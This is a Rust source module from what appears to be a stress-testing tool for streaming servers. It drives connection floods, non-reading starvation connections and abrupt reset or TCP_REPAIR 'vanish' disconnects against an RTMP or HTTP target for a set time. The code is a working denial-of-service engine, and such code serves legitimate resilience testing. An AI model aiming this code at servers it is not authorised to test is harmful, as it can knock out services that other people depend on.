//! Attackers: connections that send what no real client sends, by a plan, for a given time.

use std::net::SocketAddr;
use std::os::fd::OwnedFd;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use bytes::Bytes;

pub use plans::{End, Group, Kind, Plan, Port};

use crate::sys::{self, Origin, Received};
use crate::target::{Protocol, Target};

mod flood;
mod pin;
mod plans;
mod starve;
mod wire;

/// Which attack, and on which server.
pub struct Options {
    /// The server, and a live stream on it.
    pub target: Target,
    /// The server's HTTP address, for attacks that use both.
    pub http: Option<SocketAddr>,
    /// Which attack.
    pub kind: Kind,
    /// How long the attack lasts.
    pub time: Duration,
}

/// Totals of an attack.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Done {
    /// Connections that were opened.
    pub begun: u64,
    /// Connections that the server closed or refused.
    pub ended: u64,
    /// Bytes sent.
    pub bytes: u64,
}

/// Attacks until the time is over or `stop` is set, then ends all connections as the plan says.
///
/// # Errors
/// A socket could not be opened, or may not vanish, as one line.
pub fn run(options: &Options, stop: &AtomicBool) -> Result<Done, String> {
    sys::raise_file_limit();
    let Options { target, http, kind, time } = options;
    let (rtmp, http) = match target.protocol {
        Protocol::Rtmp => (Some(target.address), *http),
        _ => (None, Some(target.address)),
    };
    let plan = Plan::new(*kind, &target.url);
    if plan.groups.iter().any(|group| group.ends_with(End::Vanish)) {
        sys::may_vanish()
            .map_err(|error| format!("this attack sets TCP_REPAIR, which needs CAP_NET_ADMIN: {error}"))?;
    }
    let begun_ns = sys::now_ns();
    let mut attacks = Vec::new();
    for group in plan.groups {
        let target = match group.port {
            Port::Rtmp => rtmp.ok_or("this attack needs a URL that begins with rtmp")?,
            Port::Http => http.ok_or("this attack needs a URL that begins with http, or --http")?,
        };
        let begins_ns = begun_ns + sys::nanos(group.after);
        attacks.push(Attack { target, group, begins_ns, peers: Vec::new(), done: Done::default() });
    }
    let end_ns = begun_ns.saturating_add(sys::nanos(*time));
    loop {
        let now_ns = sys::now_ns();
        if now_ns >= end_ns || stop.load(Ordering::Relaxed) {
            return Ok(attacks.into_iter().map(Attack::leave).fold(Done::default(), Done::plus));
        }
        for attack in attacks.iter_mut().filter(|attack| now_ns >= attack.begins_ns) {
            attack.connect(now_ns)?;
            attack.step(now_ns);
        }
        std::thread::sleep(STEP_INTERVAL);
    }
}

impl Done {
    fn plus(self, other: Self) -> Self {
        Self {
            begun: self.begun + other.begun,
            ended: self.ended + other.ended,
            bytes: self.bytes + other.bytes,
        }
    }
}

struct Attack {
    target: SocketAddr,
    group: Group,
    begins_ns: u64,
    peers: Vec<Peer>,
    done: Done,
}

struct Peer {
    socket: OwnedFd,
    setup: Bytes,
    /// Bytes sent of the setup and then of the flood.
    sent: usize,
    next_ns: u64,
    end_ns: u64,
}

impl Attack {
    /// Opens the missing connections, as fast as the plan allows.
    fn connect(&mut self, now_ns: u64) -> Result<(), String> {
        let allowed = ((now_ns - self.begins_ns) as f64 / 1e9 * self.group.ramp) as u64 + 1;
        while self.peers.len() < self.group.connections && self.done.begun < allowed {
            let receive_buffer = (!self.group.reads).then_some(NON_READING_BUFFER_BYTES);
            let source = self.group.source.map(|source| source(self.done.begun));
            let origin = Origin { source, receive_buffer, ..Origin::default() };
            let socket = sys::connect(self.target, origin).map_err(|error| error.to_string())?;
            let end_ns = self.group.end.map_or(u64::MAX, |(after, _)| now_ns + sys::nanos(after));
            let setup = (self.group.setup)(self.done.begun);
            self.peers.push(Peer { socket, setup, sent: 0, next_ns: now_ns, end_ns });
            self.done.begun += 1;
        }
        Ok(())
    }

    fn leave(self) -> Done {
        self.peers.into_iter().for_each(|peer| peer.leave(&self.group));
        self.done
    }

    fn step(&mut self, now_ns: u64) {
        let Self { group, peers, done, .. } = self;
        let mut scratch = [0; 4096];
        for leaving in peers.extract_if(.., |peer| now_ns >= peer.end_ns) {
            leaving.leave(group);
        }
        peers.retain_mut(|peer| {
            if group.reads && !peer.drain(&mut scratch) {
                done.ended += 1;
                return false;
            }
            if now_ns < peer.next_ns {
                return true;
            }
            // Writes that a late step missed are made up for one by one, so that the rate is right.
            let interval_ns = sys::nanos(group.write_interval);
            peer.next_ns = (peer.next_ns + interval_ns).max(now_ns.saturating_sub(MAX_DELAY_NS));
            match peer.send(group) {
                Ok(n) => done.bytes += n as u64,
                Err(error) if error.kind() == std::io::ErrorKind::NotConnected => {}
                Err(_) => {
                    done.ended += 1;
                    return false;
                }
            }
            true
        });
    }
}

impl Peer {
    /// Ends the connection as the plan says.
    fn leave(self, group: &Group) {
        // If either fails, the connection is closed normally, which the server does not expect either.
        if group.ends_with(End::Reset) {
            let _ = socket2::SockRef::from(&self.socket).set_linger(Some(Duration::ZERO));
        }
        if group.ends_with(End::Vanish) {
            let _ = sys::vanish(self.socket);
        }
    }

    /// Discards what was received. False once the server has closed the connection.
    fn drain(&self, scratch: &mut [u8]) -> bool {
        loop {
            match sys::discard(&self.socket, scratch) {
                Received::Bytes(_) => {}
                Received::Nothing => return true,
                Received::Closed => return false,
            }
        }
    }

    /// Sends the next part.
    fn send(&mut self, group: &Group) -> std::io::Result<usize> {
        let in_flood = self.sent.checked_sub(self.setup.len());
        let (rest, write_bytes) = match in_flood {
            None if group.setup_write_bytes > 0 => (&self.setup[self.sent..], group.setup_write_bytes),
            None => (&self.setup[self.sent..], group.write_bytes),
            Some(_) if group.flood.is_empty() => return Ok(0),
            Some(sent) => (&group.flood[sent % group.flood.len()..], group.write_bytes),
        };
        let n = sys::send(&self.socket, &rest[..rest.len().min(write_bytes)])?;
        self.sent += n;
        Ok(n)
    }
}

/// Between two rounds through all peers.
const STEP_INTERVAL: Duration = Duration::from_millis(2);
/// What a peer missed longer ago is not made up for.
const MAX_DELAY_NS: u64 = 50_000_000;
/// Receive buffer of a peer that does not read.
const NON_READING_BUFFER_BYTES: usize = 4096;
